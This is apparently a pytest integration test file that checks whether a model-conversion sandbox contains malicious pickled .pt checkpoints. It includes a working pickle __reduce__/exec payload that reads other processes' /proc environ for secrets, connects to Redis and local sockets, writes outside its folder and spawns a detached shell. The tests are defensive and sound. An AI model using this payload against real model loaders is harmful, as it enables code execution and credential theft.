"""Hostile .pt uploads against the conversion sandbox. The pickles here run their code when unpickled; the
sandboxed child is given a loader that does unpickle them (as a bypass of weights_only loading would), and
the attack is run once without the sandbox too, to show that it works there. In the sandbox it must find no
secret of the worker, reach neither Redis nor a socket of ours, write nothing outside its folder, leave no
process behind, and get none of its words into the run's error message."""

from __future__ import annotations

import json
import os
import pickle
import signal
import socket
import subprocess
import sys
import tempfile
import uuid
from pathlib import Path
from urllib.parse import urlparse

import pytest

pytestmark = pytest.mark.integration

LOADER = "import pickle; pickle.load(open('model.pt', 'rb'))"
ATTACK = r"""
import json, os, socket, subprocess, sys
cfg = json.loads(CFG)
found = []
for pid in [str(os.getppid()), *os.listdir("/proc")]:
    try:
        if cfg["secret"].encode() in open(f"/proc/{pid}/environ", "rb").read():
            found.append(pid)
    except OSError:
        pass
stolen = cfg["secret"] if found else "nothing"
reached = []
for host, port, message in cfg["targets"]:
    try:
        with socket.create_connection((host, port), timeout=2) as s:
            s.sendall(message.encode())
            reached.append(port)
            s.recv(64)  # Redis answers; our listener never does
    except OSError:
        pass
wrote = []
for path in cfg["outside"]:
    try:
        with open(path, "w") as f:
            f.write(stolen)
        wrote.append(path)
    except OSError:
        pass
subprocess.Popen(["/bin/sh", "-c", f"sleep 60; echo {stolen} > {cfg['outside'][0]}.late # {cfg['token']}"],
                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL)
report = {"found": found, "reached": reached, "wrote": wrote}
with open("result.json", "w") as f:
    # A reason the parent knows (so it shows the payload got this far), with its words beside it.
    json.dump({"reason": "yolov5", "error": f"stolen {stolen} {report}", "names": [stolen]}, f)
print("LEAKED", stolen, report, file=sys.stderr, flush=True)
with open(cfg["report"], "w") as f:
    json.dump(report, f)
"""


class Payload:
    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self):
        return (exec, (self.code,))


def _processes_with(token: str) -> list[int]:
    pids = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and token.encode() in (entry / "cmdline").read_bytes():
                pids.append(int(entry.name))
        except OSError:
            pass
    return pids


@pytest.fixture()
def attack(redis_url, tmp_path):
    """A hostile checkpoint, the secrets of a worker and the things it tries to reach."""
    import redis

    token = uuid.uuid4().hex
    secret = f"worker-secret-{token}"
    listener = socket.create_server(("127.0.0.1", 0))
    listener.setblocking(False)
    url = urlparse(redis_url)
    leak_key = f"sandbox-leak-{token}"
    open_dir = Path(tempfile.mkdtemp(prefix="sandbox-outside-", dir="/tmp"))
    open_dir.chmod(0o777)  # anyone may write here: only the sandbox can stop the checkpoint
    cfg = {
        "secret": secret,
        "token": token,
        "targets": [
            ["127.0.0.1", listener.getsockname()[1], "hello"],
            [url.hostname, url.port, f"SET {leak_key} 1\r\n"],
        ],
        "outside": [str(open_dir / "outside.txt"), str(tmp_path / "outside.txt")],
        "report": str(open_dir / "report.json"),
    }
    pt = tmp_path / "evil.pt"
    with pt.open("wb") as f:
        pickle.dump(Payload(f"CFG = {json.dumps(json.dumps(cfg))}\n{ATTACK}"), f)
    client = redis.Redis.from_url(redis_url)
    env = {**os.environ, "LINESIGHT_S3_SECRET_KEY": secret, "LINESIGHT_SERVICE_TOKEN": secret}
    yield {
        "pt": pt,
        "secret": secret,
        "token": token,
        "listener": listener,
        "redis": client,
        "leak_key": leak_key,
        "open_dir": open_dir,
        "env": env,
    }
    for pid in _processes_with(token):
        os.kill(pid, signal.SIGKILL)
    client.delete(leak_key)
    client.close()
    listener.close()
    subprocess.run(["rm", "-rf", str(open_dir)], check=False)


def _accepted(listener: socket.socket) -> bool:
    try:
        listener.accept()[0].close()
    except BlockingIOError:
        return False
    return True


def test_the_attack_works_without_the_sandbox(attack, tmp_path):
    """The control: run by the worker's own user with the worker's environment, the same checkpoint finds
    the secret, reaches both sockets and writes outside its folder."""
    folder = tmp_path / "plain"
    folder.mkdir()
    (folder / "model.pt").write_bytes(attack["pt"].read_bytes())
    subprocess.run([sys.executable, "-c", LOADER], cwd=folder, env=attack["env"], check=True, timeout=60)
    report = json.loads((attack["open_dir"] / "report.json").read_text())
    assert report["found"] and len(report["reached"]) == 2 and len(report["wrote"]) == 2
    assert _accepted(attack["listener"])
    assert attack["redis"].get(attack["leak_key"]) == b"1"
    assert _processes_with(attack["token"])  # its setsid grandchild lives on


def test_a_hostile_checkpoint_can_do_nothing_in_the_sandbox(attack, tmp_path):
    out = tmp_path / "out"
    script = (
        "import json, sys; from pathlib import Path; "
        "from linesight_training.convert import ConversionFailed, convert_pt_isolated\n"
        "try:\n"
        f"    convert_pt_isolated(Path({str(attack['pt'])!r}), out_dir=Path({str(out)!r}), child=['-c', {LOADER!r}])\n"
        "    print(json.dumps({'converted': True}))\n"
        "except ConversionFailed as exc:\n"
        "    print(json.dumps({'error': str(exc)}))\n"
    )
    # The converting process holds the secrets in its environment from its start, as a worker does.
    done = subprocess.run(
        [sys.executable, "-c", script], env=attack["env"], capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 0, done.stderr
    answer = json.loads(done.stdout.strip().splitlines()[-1])

    from linesight_training.convert import MESSAGES

    # The payload ran to its end (it chose the reason), yet the run's error is the platform's own
    # sentence for that reason: nothing of the child's result.json or stderr.
    assert answer == {"error": MESSAGES["yolov5"]}
    # No secret anywhere: not found in any environment it could read, not in any file left.
    for path in [*tmp_path.rglob("*"), *attack["open_dir"].rglob("*")]:
        if path.is_file() and path != attack["pt"]:
            assert attack["secret"].encode() not in path.read_bytes(), path
    assert attack["secret"] not in done.stdout
    # No connection reached our socket or Redis.
    assert not _accepted(attack["listener"])
    assert attack["redis"].get(attack["leak_key"]) is None
    # Nothing written outside its folder (a world-writable folder and the test's own), no output kept.
    assert list(attack["open_dir"].iterdir()) == []
    assert not (tmp_path / "outside.txt").exists()
    assert list(out.iterdir()) == []
    # The setsid grandchild died with the conversion.
    assert _processes_with(attack["token"]) == []


def test_the_sandbox_child_runs_without_secrets_or_network(tmp_path, monkeypatch):
    """What the child sees: none of the worker's variables, another user, no network interface up."""
    from linesight_training.convert import child_environment
    from linesight_training.sandbox import SandboxLimits, isolation, run_sandboxed

    monkeypatch.setenv("LINESIGHT_S3_SECRET_KEY", "s3-secret")
    workdir = tmp_path / "job"
    workdir.mkdir()
    probe = (
        "import json, os, socket; "
        "json.dump({'env': dict(os.environ), 'uid': os.getuid(), 'cwd': os.getcwd(), "
        "'ifaces': [n for _, n in socket.if_nameindex()]}, open('seen.json', 'w'))"
    )
    outcome = run_sandboxed(
        ["-c", probe], workdir=workdir, limits=SandboxLimits(wall_seconds=60), env=child_environment()
    )
    assert outcome.returncode == 0, (workdir / "child.log").read_text()
    seen = json.loads((workdir / "seen.json").read_text())
    assert not [key for key in seen["env"] if key.startswith(("LINESIGHT_", "AWS_"))]
    assert seen["env"]["ULTRALYTICS_SAFE_LOAD"] == "1"
    if os.geteuid() == 0:  # the test machine: root on Linux, with unshare
        assert isolation() == "namespaces"
        assert seen["uid"] != 0 and seen["cwd"] == "/tmp/work" and seen["ifaces"] == ["lo"]


def test_the_converter_service_answers_through_its_spool(tmp_path):
    """Compose's mode: the worker hands the upload to `python -m linesight_training.converter` through the
    spool folder alone and gets the platform's message back; the service exits after the job (compose
    starts a fresh container for the next)."""
    import torch

    from linesight_training.convert import MESSAGES, ConversionFailed, ConvertLimits, convert_pt_isolated

    spool = tmp_path / "spool"
    spool.mkdir()
    marker = tmp_path / "payload-ran"
    evil = tmp_path / "evil.pt"
    torch.save({"model": Payload(f"open({str(marker)!r}, 'w')"), "train_args": {}}, evil)
    service = subprocess.Popen(
        [sys.executable, "-m", "linesight_training.converter", "--spool", str(spool), "--jobs", "1"],
        env={key: value for key, value in os.environ.items() if not key.startswith("LINESIGHT_")},
    )
    try:
        with pytest.raises(ConversionFailed) as failed:
            convert_pt_isolated(
                evil, out_dir=tmp_path / "out", spool=spool, limits=ConvertLimits(wall_seconds=120)
            )
        assert str(failed.value) == MESSAGES["foreign_objects"]
        assert service.wait(timeout=60) == 0
    finally:
        service.kill()
    assert not marker.exists()
    assert [p.name for p in spool.iterdir()] == [".lock"]


@pytest.fixture()
def restricted_ultralytics(tmp_path, monkeypatch):
    """Ultralytics with the worker's weights_only loading, in this process (read once, at import)."""
    if "ultralytics" not in sys.modules:
        monkeypatch.setenv("YOLO_CONFIG_DIR", str(tmp_path / "ultralytics"))
        monkeypatch.setenv("YOLO_OFFLINE", "1")
    import ultralytics.nn.tasks
    import ultralytics.utils

    monkeypatch.setattr(ultralytics.utils, "SAFE_LOAD", True)
    monkeypatch.setattr(ultralytics.nn.tasks, "SAFE_LOAD", True)


def test_a_forged_clean_checkpoint_builds_nothing_in_the_worker(tmp_path, restricted_ultralytics):
    """The sandbox's clean checkpoint is hostile too: a pickled object in it is refused by weights_only
    loading before it runs, and an architecture naming something that is not a model layer is refused
    by Ultralytics' restricted model building."""
    import torch

    from linesight_training.clean_checkpoint import FORMAT, CheckpointInvalid, load_clean, rebuild

    marker = tmp_path / "payload-ran"
    base = {"format": FORMAT, "task": "detect", "names": ["a"], "imgsz": 64}
    layers = {"backbone": [[-1, 1, "Conv", [16, 3, 2]]], "head": [[-1, 1, "Detect", ["nc"]]], "nc": 1}
    forged = tmp_path / "forged.pt"
    torch.save(
        {**base, "architecture": layers, "state_dict": {"w": Payload(f"open({str(marker)!r}, 'w')")}}, forged
    )
    with pytest.raises(CheckpointInvalid):
        load_clean(forged)
    assert not marker.exists()

    # Unrestricted, Ultralytics would call tasks.torch_load on this path: an unpickling with code.
    evil = tmp_path / "evil.pt"
    torch.save(Payload(f"open({str(marker)!r}, 'w')"), evil)
    evil_layers = {**layers, "backbone": [[-1, 1, "torch_load", [repr(str(evil))]]]}
    torch.save({**base, "architecture": evil_layers, "state_dict": {"w": torch.zeros(1)}}, forged)
    with pytest.raises(CheckpointInvalid):
        rebuild(load_clean(forged), tmp_path / "rebuilt.pt")
    assert not marker.exists() and not (tmp_path / "rebuilt.pt").exists()


def test_without_namespaces_a_stopped_conversion_leaves_no_setsid_grandchild(tmp_path, monkeypatch):
    """The fallback where no namespace is granted: at the wall-clock limit the child, its process group
    and every descendant found in /proc are killed, a grandchild in a session of its own included."""
    from linesight_training import sandbox
    from linesight_training.convert import child_environment

    monkeypatch.setattr(sandbox, "isolation", lambda: "process")
    token = uuid.uuid4().hex
    code = (
        "import subprocess, time; "
        f"subprocess.Popen(['/bin/sh', '-c', 'sleep 60; true # {token}'], start_new_session=True); "
        "time.sleep(60)"
    )
    workdir = tmp_path / "job"
    workdir.mkdir()
    try:
        outcome = sandbox.run_sandboxed(
            ["-c", code],
            workdir=workdir,
            limits=sandbox.SandboxLimits(wall_seconds=2),
            env=child_environment(),
        )
        assert outcome == sandbox.SandboxOutcome(None, "process")
        assert _processes_with(token) == []
    finally:
        for pid in _processes_with(token):
            os.kill(pid, signal.SIGKILL)
